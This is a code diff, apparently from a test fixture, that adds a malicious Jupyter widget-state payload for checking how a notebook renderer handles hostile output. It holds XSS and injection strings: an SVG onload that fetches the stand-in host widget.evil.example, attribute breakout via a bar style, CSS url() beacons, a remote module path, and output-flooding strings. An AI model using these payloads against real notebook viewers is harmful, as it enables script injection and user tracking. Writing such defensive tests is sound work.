@@ -24,7 +24,8 @@ for payload in payloads:
     print(payload)
     print(payload, file=sys.stderr)
 for figure in json.loads({figures!r}):
-    display({{figure["type"]: figure["json"]}}, raw=True)
+    view = {{"application/vnd.jupyter.widget-view+json": {{"model_id": figure["view"]}}}} if "view" in figure else {{}}
+    display({{figure["type"]: figure["json"], **view}}, raw=True)
 raise type("".join(payloads[:5]).replace(chr(0), ""), (Exception,), {{}})("".join(payloads))
 """
 TEXT_OF_ALL = "".join(PAYLOADS)
@@ -75,6 +76,32 @@ FIGURES = [
         },
     },
 ]
+CONTROLS = {"model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0"}
+WIDGET = "http://widget.evil.example"
+MODELS = {
+    "VBox": {"children": [f"IPY_MODEL_{name}" for name in ("VBox", "HTML", "FloatProgress", "Image", "Tab", "Map")]},
+    "HTML": {
+        "value": TEXT_OF_ALL,
+        "description": TEXT_OF_ALL,
+        "description_allow_html": True,
+        "layout": "IPY_MODEL_Layout",
+    },
+    "FloatProgress": {"value": 5, "bar_style": '" onload="x', "style": "IPY_MODEL_Layout", "description": TEXT_OF_ALL},
+    "Image": {"format": f"svg+xml,<svg onload=\"fetch('{WIDGET}')\">", "width": f"1;background:url({WIDGET})"},
+    "Tab": {"titles": PAYLOADS, "children": ["IPY_MODEL_HTML"] * len(PAYLOADS), "selected_index": 0},
+    "Map": {"_view_module": WIDGET},
+    "Layout": {
+        "width": f"url({WIDGET}/width)",
+        "border": f"1px solid url({WIDGET}/border)",
+        "background": f"url({WIDGET})",
+        "bar_color": f"red;background:url({WIDGET}/bar)",
+        "visibility": "visible; position: fixed",
+    },
+}
+STATE = {name: {"model_name": f"{name}Model", **CONTROLS, "state": state} for name, state in MODELS.items()}
+STATE["Map"] |= {"model_module": f"{WIDGET}/{TEXT_OF_ALL}"}
+STATE["Image"]["buffers"] = [{"path": ["value"], "encoding": "base64", "data": PAYLOADS[0]}]
+FIGURES.append({"type": "application/vnd.jupyter.widget-state+json", "json": {"state": STATE}, "view": "VBox"})
 FLOOD = """
 LEAPS, COLOURS = "\\rb", "\\x1b[31mx\\x1b[32my"
 for text in ("a" * 30_000 + LEAPS * 30_000, "a" * 400_000 + LEAPS * 200_000, "\\r" * 99_000, COLOURS * 40_000):
